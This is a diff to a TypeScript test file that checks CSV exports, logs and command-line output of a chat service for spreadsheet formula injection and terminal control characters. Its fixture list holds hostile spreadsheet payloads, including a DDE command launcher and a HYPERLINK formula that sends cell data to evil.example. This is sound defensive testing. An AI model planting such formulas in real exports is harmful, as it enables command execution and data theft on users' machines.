@@ -4,15 +4,20 @@
  * text around or end a line. The owner exports the turns, opens them in a spreadsheet or looks at them with `cat`, and
  * reads the log.
  *
- * Verified against the real server and store, with fuzzing: no cell of the CSV begins with what a spreadsheet takes for a
+ * Verified against the real server, store and command line, with fuzzing: no cell of the CSV begins with what a spreadsheet takes for a
  * formula, and each is one cell; no export, log line or table of the command line holds a control character; what was
  * written can still be read.
  */
+import { randomBytes } from 'node:crypto';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
+import { mintToken } from '../../src/audit/secrets.ts';
 import { csvLine, visible } from '../../src/http/csv.ts';
 import { table } from '../../src/main/table.ts';
+import { aTurn } from '../audit/temporary-store.ts';
 import { aPerson, call, runServer } from '../http/running-server.ts';
+import { cliEnv, runCli } from '../main/run-cli.ts';
+import { startTestGateway } from '../support/gateway.ts';
 
 const orders = [
   ...['=cmd|"/C calc"!A0', '=HYPERLINK("https://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'],
@@ -101,9 +106,47 @@ test('T14: a table of the command line holds no order to the terminal', () => {
   const printed = table(
     ['user', 'tag'],
     [orders, [...orders].reverse()].map((list) => [list.join('x'), list.join('y')]),
-  );
+  ).join('\n');
   expect(printed).not.toMatch(CONTROL);
 });
+
+test('T14: no command prints an order, whoever wrote it', { timeout: 120_000 }, async () => {
+  await using own = await startTestGateway({ env: { PALIADIN_AGENT: 'none' } });
+  const { users, turns, sessions, signIn, audit } = await own.store();
+  const name = orders.join('x');
+  const { user } = await users.ensure({ subject: `eve${name}`, name, email: name, now: 1 });
+  await mintToken(
+    { signIn, random: randomBytes, now: 1 },
+    { userId: user.id, name, scopes: ['read'], expiresAt: null },
+  );
+  await audit.append([
+    { at: 1, actor: name, action: 'user.created', subject: user.id, turnId: null, detail: { name } },
+  ]);
+  const session = await sessions.ofUser(user, { prefix: 'test', host: name, now: 1 });
+  const turn = aTurn({ user, session }, { message: name, pageOrigin: name, context: name });
+  await turns.insert(turn);
+  const feedback = { rating: 'down' as const, comment: name };
+  await turns.write([{ turnId: turn.turnId, change: { feedback }, events: [] }]);
+  const env = cliEnv(own, { PALIADIN_AGENT: 'none' });
+  const commands = [
+    ['turns'],
+    ['turns', '--json'],
+    ['turns', '--user', `nobody${withoutNul}`],
+    ['user', 'list'],
+    ['user', 'export', `eve${withoutNul}`],
+    ['user', 'role', `eve${withoutNul}`, 'admin'],
+    ['token', 'list'],
+    [withoutNul],
+  ];
+  for (const args of commands) {
+    const { stdout, stderr } = await runCli(env, ...args);
+    expect([args[0], stdout.length + stderr.length > 0]).toEqual([args[0], true]);
+    expect([args, (stdout + stderr).replaceAll('\n', '').match(UNSEEN)]).toEqual([args, null]);
+  }
+});
+
+const withoutNul = orders.join('x').replaceAll('\u0000', '');
+const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
 
 // Tab and newline are what they are in a file of text; a carriage return ends a line of CSV.
 // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
